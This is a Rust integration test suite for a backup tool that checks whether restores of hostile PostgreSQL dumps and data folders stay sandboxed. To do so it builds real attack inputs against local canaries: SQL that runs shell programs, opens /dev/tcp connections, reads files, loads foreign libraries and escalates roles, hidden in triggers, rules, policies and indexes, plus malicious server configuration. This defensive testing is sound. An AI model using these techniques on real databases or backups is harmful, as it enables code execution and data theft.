//! What comes in a backup tries to get out: from a dump, from a data folder, from the programs that restore. Canaries on the
//! host (a listener, a socket, files that everybody may read) see nothing of it.

use std::io::ErrorKind;
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::Command;

use lifeboat::scratch::Scratch;

use super::restore_logical::{brought_back, scratch};
use super::traps::resealed;
use crate::support::data;
use crate::support::home::{Home, POLICY, ran};
use crate::support::server::Server;

const SECRET: &str = "canary-7f3a91";

/// What must not be touched.
struct Canaries {
    folder: tempfile::TempDir,
    listener: TcpListener,
}

impl Canaries {
    fn set() -> Canaries {
        let folder = tempfile::Builder::new().prefix("lb-canary-").tempdir().unwrap();
        std::fs::set_permissions(folder.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
        std::fs::write(folder.path().join("secret"), SECRET).unwrap();
        std::fs::set_permissions(folder.path().join("secret"), std::fs::Permissions::from_mode(0o644)).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        Canaries { folder, listener }
    }

    fn path(&self, name: &str) -> String {
        self.folder.path().join(name).display().to_string()
    }

    fn port(&self) -> u16 {
        self.listener.local_addr().unwrap().port()
    }

    /// Whether something connected since this was asked last.
    fn was_reached(&self) -> bool {
        std::thread::sleep(std::time::Duration::from_millis(100));
        match self.listener.accept() {
            Ok(_) => true,
            Err(error) => {
                assert_eq!(error.kind(), ErrorKind::WouldBlock);
                false
            }
        }
    }

    /// Names of files that something made beside the secret.
    fn made(&self) -> Vec<String> {
        let names = std::fs::read_dir(self.folder.path()).unwrap().flatten();
        let mut names: Vec<String> = names.map(|entry| entry.file_name().to_string_lossy().into_owned()).collect();
        names.retain(|name| name != "secret");
        names.sort();
        names
    }

    fn clear(&self) {
        for name in self.made() {
            std::fs::remove_file(self.folder.path().join(name)).unwrap();
        }
        while self.was_reached() {}
    }
}

/// A database with a function that tries everything and writes down what came of it; it is called wherever a dump can run
/// code. While the rows are made it does nothing.
fn fill(server: &Server, canaries: &Canaries) {
    server.sql("postgres", "create database orders");
    let (secret, port, socket) = (canaries.path("secret"), canaries.port(), server.socket_dir.display());
    server.sql("orders", "create extension dblink; select lo_from_bytea(4711, 'x')");
    let attempts = [
        format!("copy (select 1) to program 'touch {}'", canaries.path("program")),
        format!("copy (select 1) to program 'bash -c \"echo hello > /dev/tcp/127.0.0.1/{port}\"'"),
        format!("copy (select 1) to '{}'", canaries.path("copied")),
        format!("insert into public.attempts select 'read', pg_read_file('{secret}')"),
        format!(
            "insert into public.attempts select 'list', string_agg(name, ' ') from pg_ls_dir('{}') name",
            canaries.path("")
        ),
        format!("select lo_export(4711, '{}')", canaries.path("exported")),
        format!(
            "select public.dblink_exec('host={socket} port={} user=postgres dbname=orders', 'insert into precious values (1)')",
            server.port
        ),
        format!("select public.dblink_connect('host=127.0.0.1 port={port} user=postgres dbname=x connect_timeout=2')"),
        format!("alter system set archive_command = 'touch {}'", canaries.path("archived")),
        format!("load '{}'", canaries.path("evil.so")),
        format!("create function evil_c() returns int language c as '{}'", canaries.path("evil.so")),
        "create extension file_fdw".to_owned(),
        "create language plperlu".to_owned(),
        "create extension plpython3u".to_owned(),
        format!("create subscription s connection 'host=127.0.0.1 port={port} dbname=x' publication p"),
        format!("set session_preload_libraries = '{}'", canaries.path("evil.so")),
        "set role postgres".to_owned(),
        "alter role current_user superuser".to_owned(),
    ];
    let list: Vec<String> = attempts.iter().map(|attempt| format!("$q${attempt}$q$")).collect();
    let evil = format!(
        "create or replace function public.evil(whence text) returns int language plpgsql volatile security invoker as $f$ \
         declare attempt text; begin foreach attempt in array array[{}] loop \
         begin execute attempt; insert into public.attempts values (whence, 'done: ' || attempt); \
         exception when others then null; end; end loop; return 1; end $f$",
        list.join(", ")
    );
    server.sql(
        "orders",
        "create table precious (i int); create table attempts (whence text, what text); grant all on attempts to public; \
         create function evil(whence text) returns int language sql as 'select 1'; \
         create function quiet(i int) returns int language sql immutable as 'select i'; \
         create table checked (i int check (public.evil('check') = 1)); insert into checked values (1), (2); \
         create table defaulted (i int default public.evil('default')); insert into defaulted default values; \
         create table indexed (i int); insert into indexed values (1), (2); create index on indexed (quiet(i)); \
         create table triggered (i int); insert into triggered values (1); \
         create function on_row() returns trigger language plpgsql as 'begin perform public.evil(''trigger''); return new; end'; \
         create trigger t before insert or update on triggered for each row execute function on_row(); \
         create table ruled (i int); create rule r as on insert to ruled do also select public.evil('rule'); \
         create table guarded (i int); insert into guarded values (1); alter table guarded enable row level security; \
         create policy p on guarded using (public.evil('policy') = 1); \
         create view definers as select public.evil('view') as i; \
         create function definer() returns int language sql security definer set search_path = public as 'select evil(''definer'')'; \
         create materialized view filled as select public.evil('materialized view') as i; \
         create function on_ddl() returns event_trigger language plpgsql as 'begin perform public.evil(''event trigger''); end'; \
         create event trigger e on ddl_command_end execute function on_ddl(); \
         alter event trigger e disable",
    );
    server.sql(
        "orders",
        "create or replace function quiet(i int) returns int language plpgsql immutable as 'begin perform public.evil(''index''); return i; end'",
    );
    server.sql("orders", &evil);
}

async fn rows(scratch: &Scratch, database: &str, sql: &str) -> Vec<String> {
    let client = scratch.server().unwrap().with_database(database).connect().await.unwrap();
    let rows = client.simple_query(sql).await.unwrap();
    rows.iter()
        .filter_map(|row| match row {
            tokio_postgres::SimpleQueryMessage::Row(row) => row.get(0).map(str::to_owned),
            _ => None,
        })
        .collect()
}

#[tokio::test]
async fn a_hostile_dump_reaches_nothing() {
    let (server, canaries) = (Server::start(), Canaries::set());
    fill(&server, &canaries);
    let home = Home::new(&server, "orders");
    home.run(&["backup", POLICY, "--job", "logical"]).expect(0);
    canaries.clear();
    server.sql("orders", "truncate precious, attempts");

    // Where there is no sandbox and whoever restores is superuser, it all works.
    server.sql("orders", "select public.evil('plainly')");
    assert_eq!(canaries.made(), ["copied", "exported", "program"], "the attack is real");
    assert!(canaries.was_reached());
    assert_eq!(server.sql("orders", "select count(*) from precious"), "1");
    assert_eq!(server.sql("orders", &format!("select count(*) > 0 from attempts where what = '{SECRET}'")), "t");
    server.sql("orders", "alter system reset archive_command");
    canaries.clear();
    server.sql("orders", "truncate precious, attempts");

    let (scratch, facts) = brought_back(&home, &server).await;
    println!("{facts:?}");
    let isolation = scratch.isolation();
    assert!(isolation.network && isolation.files && isolation.processes, "{isolation:?}");
    assert_eq!(canaries.made(), Vec::<String>::new(), "no file of the host");
    assert!(!canaries.was_reached(), "no connection");
    assert_eq!(server.sql("orders", "select count(*) from precious"), "0", "nothing in the source");
    let seen = rows(&scratch, "orders", "select whence || ': ' || what from attempts").await;
    assert!(!seen.is_empty(), "the dump's code did run");
    assert!(seen.iter().all(|line| !line.contains(SECRET)), "{seen:#?}");
    // Whatever runs with the rights of the restore, not of an owner, could do none of it.
    let by_restorer: Vec<&String> =
        seen.iter().filter(|line| line.starts_with("check:") && line.contains("program")).collect();
    assert!(by_restorer.is_empty(), "{seen:#?}");

    // Even the scratch's own superuser, who may do all of it in there, reaches nothing out here.
    rows(&scratch, "orders", "select public.evil('superuser')").await;
    let seen =
        rows(&scratch, "orders", "select what from attempts where whence in ('superuser', 'read', 'list')").await;
    assert!(
        seen.iter().any(|line| line.contains("done: create extension file_fdw")),
        "it did act, in there: {seen:#?}"
    );
    assert!(seen.iter().all(|line| !line.contains(SECRET)), "{seen:#?}");
    assert_eq!(canaries.made(), Vec::<String>::new());
    assert!(!canaries.was_reached());
    assert_eq!(server.sql("orders", "select count(*) from precious"), "0");
    scratch.destroy().await.unwrap();

    // The drill as people run it: what was had is in its record.
    let drilled = home.run(&["drill", POLICY, "--drill", "restore-logical", "--output", "json"]);
    let transcript = drilled.json();
    assert_eq!(transcript["scratch"]["isolation"]["network"], true, "{transcript}");
    assert_eq!(transcript["scratch"]["isolation"]["files"], true);
    assert_eq!(canaries.made(), Vec::<String>::new());
    assert!(!canaries.was_reached());
}

#[tokio::test]
async fn the_programs_that_restore_see_no_file_of_the_host() {
    let (server, canaries) = (Server::start(), Canaries::set());
    server.sql("postgres", "create database orders");
    let home = Home::new(&server, "orders");
    let scratch = scratch(&home, &server).await;
    let wrap = scratch.wrap();
    let places = [
        canaries.path("secret"),
        home.path().join("lifeboat.toml").display().to_string(),
        home.path().join("keys").display().to_string(),
        home.path().join("policies").display().to_string(),
        server.socket_dir.display().to_string(),
        "/root/.".to_owned(),
        "/home/.".to_owned(),
        "/var/lib/postgresql".to_owned(),
    ];
    for place in &places {
        let outside = Command::new("ls").arg(place).output().unwrap().status.success();
        let mut inside = Command::new(&wrap[0]);
        inside.args(&wrap[1..]).args(["sh", "-c", "test -e \"$1\" && test -n \"$(ls -A \"$1\")\"", "sh", place]);
        let seen = ran(inside.current_dir(scratch.work_dir()));
        assert_ne!(seen.code, 0, "{place} is seen from inside (outside: {outside}): {seen:?}");
    }
    let port = canaries.port();
    let mut inside = Command::new(&wrap[0]);
    inside.args(&wrap[1..]).args(["bash", "-c", &format!("echo x > /dev/tcp/127.0.0.1/{port}")]);
    assert_ne!(ran(inside.current_dir(scratch.work_dir())).code, 0);
    assert!(!canaries.was_reached());
    scratch.destroy().await.unwrap();
}

#[tokio::test]
async fn a_hostile_data_folder_acts_on_nothing() {
    let (server, canaries) = (Server::start(), Canaries::set());
    data::fill(&server);
    let home = Home::new(&server, data::DATABASE);
    home.run(&["backup", POLICY, "--job", "physical"]).expect(0);
    let touch = |name: &str| format!("touch {}", canaries.path(name));
    let port = canaries.port();
    let conf = format!(
        "listen_addresses = '*'\narchive_mode = always\narchive_command = '{}'\nrestore_command = '{}'\n\
         archive_cleanup_command = '{}'\nrecovery_end_command = '{}'\nssl = on\nssl_passphrase_command = '{}'\n\
         shared_preload_libraries = 'evil'\nsession_preload_libraries = '{1}'\nlocal_preload_libraries = 'evil'\n\
         primary_conninfo = 'host=127.0.0.1 port={port} user=x'\nlogging_collector = on\nlog_directory = '{}'\n\
         hba_file = '{}'\ninclude = '{}'\ndata_directory = '/nowhere'\nexternal_pid_file = '{}'\n",
        touch("archived"),
        touch("restored"),
        touch("cleaned"),
        touch("ended"),
        touch("passphrase"),
        canaries.path(""),
        canaries.path("secret"),
        canaries.path("secret"),
        canaries.path("pid"),
    );
    let maps = "local all all ident map=x\n";
    let signal = "";
    for (number, extra) in [
        vec![("postgresql.conf", conf.as_str()), ("postgresql.auto.conf", &conf), ("standby.signal", signal)],
        vec![
            ("postgresql.auto.conf", conf.as_str()),
            ("recovery.signal", signal),
            ("pg_hba.conf", maps),
            ("pg_ident.conf", "x /.* postgres\n"),
        ],
        vec![
            ("conf.d/00.conf", conf.as_str()),
            ("postgresql.conf", "include_dir = 'conf.d'\n"),
            ("postmaster.opts", "postgres \"-c\" \"listen_addresses=*\"\n"),
            ("postmaster.pid", "1\n/\n1\n5432\n/tmp\n*\n1 1\nready\n"),
        ],
    ]
    .into_iter()
    .enumerate()
    {
        let names: Vec<&str> = extra.iter().map(|(name, _)| *name).collect();
        let id = resealed(&home, u32::try_from(number).unwrap() + 1, &extra, |_, bytes| Some(bytes), |_| {}).await;
        let args = ["drill", POLICY, "--drill", "restore-latest", "--backup", id.as_str(), "--output", "json"];
        let drilled = home.run(&args).expect(0);
        let transcript = drilled.json();
        assert_eq!(transcript["scratch"]["isolation"]["files"], true, "{transcript}");
        assert_eq!(canaries.made(), Vec::<String>::new(), "{names:?}");
        assert!(!canaries.was_reached(), "{names:?}");
    }
}

/// Where root is not there to mount, an ordinary user with user namespaces gets the same; `check` says what is had.
#[test]
fn check_says_whether_files_are_hidden() {
    let server = Server::start();
    server.sql("postgres", "create database orders");
    let home = Home::new(&server, "orders");
    let checked = home.run(&["check", "--output", "json"]);
    let document = checked.json();
    let tried = document["tried"].as_array().unwrap();
    let isolation = tried.iter().find(|one| one["subject"] == "isolation").unwrap_or_else(|| panic!("{document}"));
    let text = isolation.to_string();
    assert!(text.contains("network: own") && text.contains("files of the machine: hidden"), "{text}");
    assert!(!Path::new(&home.scratch()).join(".lifeboat-check").exists());
    let left = std::fs::read_dir(home.path()).unwrap().flatten();
    assert!(left.into_iter().all(|entry| !entry.file_name().to_string_lossy().starts_with(".lifeboat-check")));
}
